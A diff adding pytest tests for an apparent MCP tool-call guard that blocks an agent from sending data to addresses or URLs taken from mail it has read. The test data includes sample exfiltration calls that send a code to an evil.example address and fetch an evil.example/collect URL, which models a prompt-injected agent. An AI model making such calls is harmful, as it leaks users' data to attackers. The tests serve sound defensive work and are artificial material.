@@ -5,6 +5,9 @@ supplied the value — while the same tools used with values the user named are 
 from __future__ import annotations
 
 import json
+import os
+import socket
+import sqlite3
 import sys
 from pathlib import Path
 from typing import Any
@@ -460,3 +463,89 @@ def test_a_short_id_content_spelled_out_is_not_destroyed_unattended_though_a_lis
         assert spelled.reasons == ["drive/delete_file would destroy what 'file_id' names, an id that content written "
                                    "by others spells out (drive/list_files, call-1): an operator approves it first"]
         assert other.decision == "permit", (request, other.reasons)  # the datum alone: the user's listing
+
+
+def test_a_client_that_starts_a_guard_per_call_is_still_one_conversation(tmp_path: Path) -> None:
+    """``langchain-mcp-adapters``' ``client.get_tools()`` without a session starts a guard process per call (over
+    stdio). The mail read through one guard ties the address and the URL the next guard's calls carry to it; a guard
+    that another client process started (a shell between them) begins with nothing of it; and once that process has
+    gone, what was kept for it is removed when a guard starts."""
+    settings = config(tmp_path)
+
+    async def read(client: ClientSession) -> None:
+        await client.call_tool("mail__read_inbox", {}, meta=REQUEST)
+
+    async def send(client: ClientSession) -> list[str]:
+        return [await refusal(client, "mail__send_email", {"to": "mark.black-2134@evil.example", "body": "771203"}),
+                await refusal(client, "mail__fetch", {"url": "https://evil.example/collect?c=771203"})]  # fmt: skip
+
+    guarded(tmp_path, settings, read)
+    to_attacker, visit = guarded(tmp_path, settings, send)  # another guard process, started by this one
+    assert "its argument 'to' came from the result of mail/read_inbox (call-" in to_attacker
+    assert visit.startswith("denied by policy: mail/fetch reaches the open world with 'url' taken from the result "
+                            "of mail/read_inbox")  # fmt: skip
+    assert not (tmp_path / "sent.visits").exists()
+
+    async def fetch(client: ClientSession) -> bool:
+        result = await client.call_tool("mail__fetch", {"url": "https://evil.example/collect?c=771203"}, meta=REQUEST)
+        return bool(result.is_error)
+
+    assert guarded(tmp_path, settings, fetch, shell=True) is False  # a shell's guard: another client, its own history
+    assert (tmp_path / "sent.visits").exists()
+    store = sqlite3.connect(tmp_path / "home" / "groundstate.db")
+    try:
+        kept = {session for (session,) in store.execute("SELECT DISTINCT session FROM mcp_history")}
+        assert len(kept) == 2  # this process's conversation and the shell's
+        guarded(tmp_path, settings, read)  # a guard starts: the shell is gone, and what was kept for it with it
+        started = Path(f"/proc/{os.getpid()}/stat").read_text().rsplit(")", 1)[1].split()[19]
+        this_client = f"stdio:{socket.gethostname()}:{os.getpid()}:{started}"
+        assert {session for (session,) in store.execute("SELECT DISTINCT session FROM mcp_history")} == {this_client}
+    finally:
+        store.close()
+
+
+def test_what_a_guard_kept_stays_within_the_history_bounds(tmp_path: Path) -> None:
+    """``[mcp] history_calls``: a guard per call, each adding a result; the next guard resumes at most the bound,
+    keeps no more in the store, and the session resumed is marked (the rules get stricter: the send is held)."""
+    settings = config(tmp_path, "history_calls = 2\n")
+
+    async def contacts(client: ClientSession) -> None:
+        await client.call_tool("mail__contacts", {}, meta=REQUEST)
+
+    for _ in range(3):
+        guarded(tmp_path, settings, contacts)
+
+    async def send(client: ClientSession) -> str:
+        return await refusal(client, "mail__send_email", {"to": "alice@corp.example", "body": "see you Friday"})
+
+    guarded(tmp_path, settings, send)
+    store = sqlite3.connect(tmp_path / "home" / "groundstate.db")
+    try:
+        assert store.execute("SELECT COUNT(*) FROM mcp_history WHERE kind = 'result'").fetchone() == (2,)
+    finally:
+        store.close()
+    send_entry = next(e for e in Ledger(default_db_url(tmp_path / "home")).entries() if e.tool == "send_email")
+    assert any("after content written by others entered the session" in reason for reason in send_entry.reasons)
+
+
+def test_a_kept_result_that_cannot_be_read_marks_the_session_it_is_resumed_into(tmp_path: Path) -> None:
+    """A kept row edited outside groundstate (its data no longer JSON) is left out of the resumed session, and the
+    session is marked: what it said is unseen, so the send is held, not let through."""
+    settings = config(tmp_path)
+
+    async def contacts(client: ClientSession) -> None:
+        await client.call_tool("mail__contacts", {}, meta=REQUEST)
+
+    async def send(client: ClientSession) -> str:
+        return await refusal(client, "mail__send_email", {"to": "alice@corp.example", "body": "see you Friday"})
+
+    guarded(tmp_path, settings, contacts)
+    store = sqlite3.connect(tmp_path / "home" / "groundstate.db")
+    try:
+        with store:
+            assert store.execute("UPDATE mcp_history SET fields = 'not json' WHERE kind = 'result'").rowcount == 1
+    finally:
+        store.close()
+    guarded(tmp_path, settings, send)
+    send_entry = next(e for e in Ledger(default_db_url(tmp_path / "home")).entries() if e.tool == "send_email")
+    assert any("after content written by others entered the session" in reason for reason in send_entry.reasons)
